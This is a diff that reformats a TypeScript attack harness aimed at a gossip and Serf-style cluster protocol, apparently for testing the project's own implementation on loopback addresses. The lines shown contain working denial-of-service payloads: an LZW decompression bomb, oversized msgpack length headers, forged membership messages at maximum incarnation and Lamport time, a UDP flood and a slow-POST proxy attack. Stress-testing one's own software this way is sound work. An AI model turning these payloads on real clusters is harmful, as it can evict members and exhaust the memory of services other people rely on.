@@ -14,11 +14,20 @@ import { type Socket, connect } from 'node:net';
 import { parseArgs } from 'node:util';
 import { encodeTyped } from '../../src/gossip/codec/fields.js';
 import { lzwCompress } from '../../src/gossip/codec/lzw.js';
-import { MessageType, NodeState, encodeAlive, encodeCompress, encodeDead, encodePushPull, encodeSuspect, encodeUser, type PushNodeState } from '../../src/gossip/codec/messages.js';
+import {
+  MessageType,
+  NodeState,
+  encodeAlive,
+  encodeCompress,
+  encodeDead,
+  encodePushPull,
+  encodeSuspect,
+  encodeUser,
+  type PushNodeState,
+} from '../../src/gossip/codec/messages.js';
 import { encodeCompound } from '../../src/gossip/codec/packet.js';
 import { encodeJoinIntent, encodeLeaveIntent, encodeQuery, encodeUserEvent } from '../../src/serf/messages.js';
 import { ATTACKS, type AttackName } from './attacks.js';
-
 
 const { values } = parseArgs({
   options: {
@@ -56,7 +65,16 @@ function hostPort(s: string): [string, number] {
 }
 
 const sleep = (ms: number) => new Promise<void>((r) => setTimeout(r, ms));
-const stats: Record<string, number> = { connects: 0, connectErrors: 0, closedByVictim: 0, bytesSent: 0, bytesReceived: 0, datagrams: 0, requests: 0, responses: 0 };
+const stats: Record<string, number> = {
+  connects: 0,
+  connectErrors: 0,
+  closedByVictim: 0,
+  bytesSent: 0,
+  bytesReceived: 0,
+  datagrams: 0,
+  requests: 0,
+  responses: 0,
+};
 const status = new Map<string, number>();
 let stopping = false;
 let deadline = 0;
@@ -149,7 +167,16 @@ function concat(parts: Uint8Array[]): Uint8Array {
 
 /** A push/pull header declaring 16 M node states, then 0x80 bytes to 16 MiB, LZW-compressed, in a compress envelope. */
 function lzwBomb(): Uint8Array {
-  const header = encodeTyped(MessageType.pushPull, (w) => w.mapHeader(3).key('Join').bool(false).key('Nodes').int(1 << 24).key('UserStateLen').int(0));
+  const header = encodeTyped(MessageType.pushPull, (w) =>
+    w
+      .mapHeader(3)
+      .key('Join')
+      .bool(false)
+      .key('Nodes')
+      .int(1 << 24)
+      .key('UserStateLen')
+      .int(0),
+  );
   const plain = new Uint8Array(16 * 1024 * 1024 - 64).fill(0x80);
   plain.set(header);
   return encodeCompress({ algo: 0, buf: lzwCompress(plain) });
@@ -160,7 +187,15 @@ function bigPushPull(): Uint8Array {
   const states: PushNodeState[] = [];
   const meta = new Uint8Array(170).fill(0x41);
   for (let i = 0; i < 65_536; i++) {
-    states.push({ name: `intruder-${String(i).padStart(6, '0')}`, addr: Uint8Array.of(127, 0, 0, 2), port: 7946, meta, incarnation: 1, state: NodeState.dead, vsn: VSN });
+    states.push({
+      name: `intruder-${String(i).padStart(6, '0')}`,
+      addr: Uint8Array.of(127, 0, 0, 2),
+      port: 7946,
+      meta,
+      incarnation: 1,
+      state: NodeState.dead,
+      vsn: VSN,
+    });
   }
   return encodePushPull({ nodes: states.length, userStateLen: 0, join: false }, states, new Uint8Array(0));
 }
@@ -183,7 +218,10 @@ function udpPayloads(attackerPort: number): { kind: string; bytes: Uint8Array }[
   out.push({ kind: 'map32-4G', bytes: Uint8Array.of(MessageType.alive, 0xdf, 0xff, 0xff, 0xff, 0xff, 0xa4, 0x4e, 0x6f, 0x64, 0x65) });
   out.push({ kind: 'array32-4G', bytes: Uint8Array.of(MessageType.ping, 0xdd, 0xff, 0xff, 0xff, 0xff, 0xc0, 0xc0) });
   out.push({ kind: 'str32-4G', bytes: Uint8Array.of(MessageType.suspect, 0x81, 0xdb, 0xff, 0xff, 0xff, 0xff, 0x41) });
-  out.push({ kind: 'bin32-4G', bytes: Uint8Array.of(MessageType.dead, 0x81, 0xa4, 0x4e, 0x6f, 0x64, 0x65, 0xc6, 0xff, 0xff, 0xff, 0xff, 0x41) });
+  out.push({
+    kind: 'bin32-4G',
+    bytes: Uint8Array.of(MessageType.dead, 0x81, 0xa4, 0x4e, 0x6f, 0x64, 0x65, 0xc6, 0xff, 0xff, 0xff, 0xff, 0x41),
+  });
   const manyKeys = new Uint8Array(60_000);
   manyKeys.set([MessageType.alive, 0xdf, 0x00, 0x00, 0x75, 0x30]); // map of 30 000 nil→nil pairs
   manyKeys.fill(0xc0, 6);
@@ -197,7 +235,17 @@ function udpPayloads(attackerPort: number): { kind: string; bytes: Uint8Array }[
   out.push({ kind: 'deep-nesting-compressed', bytes: encodeCompress({ algo: 0, buf: lzwCompress(deep) }) });
   // alive / suspect / dead about real members with huge incarnations
   for (const m of realMembers) {
-    out.push({ kind: 'alive-max-incarnation', bytes: encodeAlive({ incarnation: MAX_U32, node: m.name, addr: Uint8Array.of(127, 0, 0, 1), port: m.port, meta: new Uint8Array(0), vsn: VSN }) });
+    out.push({
+      kind: 'alive-max-incarnation',
+      bytes: encodeAlive({
+        incarnation: MAX_U32,
+        node: m.name,
+        addr: Uint8Array.of(127, 0, 0, 1),
+        port: m.port,
+        meta: new Uint8Array(0),
+        vsn: VSN,
+      }),
+    });
     out.push({ kind: 'suspect-max-incarnation', bytes: encodeSuspect({ incarnation: MAX_U32, node: m.name, from: 'intruder' }) });
     out.push({ kind: 'dead-max-incarnation', bytes: encodeDead({ incarnation: MAX_U32, node: m.name, from: 'intruder' }) });
     // Serf leave and join intents with Lamport time 2^64 - 1
@@ -205,15 +253,40 @@ function udpPayloads(attackerPort: number): { kind: string; bytes: Uint8Array }[
     out.push({ kind: 'serf-join-max-ltime', bytes: encodeUser(encodeJoinIntent({ ltime: MAX_U64, node: m.name })) });
   }
   // an alive for an unknown member claiming the victim's address, at max incarnation
-  out.push({ kind: 'alive-intruder', bytes: encodeAlive({ incarnation: MAX_U32, node: 'intruder', addr: Uint8Array.of(127, 0, 0, 2), port: attackerPort, meta: new Uint8Array(0), vsn: VSN }) });
+  out.push({
+    kind: 'alive-intruder',
+    bytes: encodeAlive({
+      incarnation: MAX_U32,
+      node: 'intruder',
+      addr: Uint8Array.of(127, 0, 0, 2),
+      port: attackerPort,
+      meta: new Uint8Array(0),
+      vsn: VSN,
+    }),
+  });
   let n = 0;
-  const event = () => encodeUser(encodeUserEvent({ ltime: MAX_U64 - BigInt(n++ % 2), name: `flood-${n % 1000}`, payload: new Uint8Array(64), coalesce: n % 2 === 0 }));
+  const event = () =>
+    encodeUser(
+      encodeUserEvent({ ltime: MAX_U64 - BigInt(n++ % 2), name: `flood-${n % 1000}`, payload: new Uint8Array(64), coalesce: n % 2 === 0 }),
+    );
   out.push({ kind: 'serf-user-event-max-ltime', bytes: event() });
   out.push({ kind: 'serf-user-event-max-ltime', bytes: event() });
   out.push({
     kind: 'serf-query-max-ltime',
     bytes: encodeUser(
-      encodeQuery({ ltime: MAX_U64, id: 1, addr: Uint8Array.of(127, 0, 0, 2), port: attackerPort, sourceNode: 'intruder', filters: [], flags: 1, relayFactor: 5, timeoutNs: 24n * 3600n * 1_000_000_000n, name: 'flood', payload: new Uint8Array(256) }),
+      encodeQuery({
+        ltime: MAX_U64,
+        id: 1,
+        addr: Uint8Array.of(127, 0, 0, 2),
+        port: attackerPort,
+        sourceNode: 'intruder',
+        filters: [],
+        flags: 1,
+        relayFactor: 5,
+        timeoutNs: 24n * 3600n * 1_000_000_000n,
+        name: 'flood',
+        payload: new Uint8Array(256),
+      }),
     ),
   });
   // the same bodies inside compounds (what real gossip looks like)
@@ -295,7 +368,7 @@ async function udpFlood(): Promise<void> {
       (src) =>
         new Promise<UdpSocket>((resolve) => {
           const u = createSocket('udp4');
-          u.on('error', () => stats['sendErrors'] = (stats['sendErrors'] ?? 0) + 1);
+          u.on('error', () => (stats['sendErrors'] = (stats['sendErrors'] ?? 0) + 1));
           u.bind(0, src, () => resolve(u));
         }),
     ),
@@ -352,7 +425,14 @@ async function httpProxySlow(): Promise<void> {
     if (!s) return sleep(100);
     stats['requests']!++;
     let sent = 0;
-    if (await write(s, Buffer.from(`POST /proxy/key-${i}/upload HTTP/1.1\r\nHost: agent\r\nContent-Type: application/octet-stream\r\nContent-Length: ${LENGTH}\r\n\r\n`))) {
+    if (
+      await write(
+        s,
+        Buffer.from(
+          `POST /proxy/key-${i}/upload HTTP/1.1\r\nHost: agent\r\nContent-Type: application/octet-stream\r\nContent-Length: ${LENGTH}\r\n\r\n`,
+        ),
+      )
+    ) {
       while (running() && !s.destroyed && sent < LENGTH) {
         if (!(await write(s, chunk.subarray(0, Math.min(chunk.length, LENGTH - sent))))) break;
         sent += chunk.length;
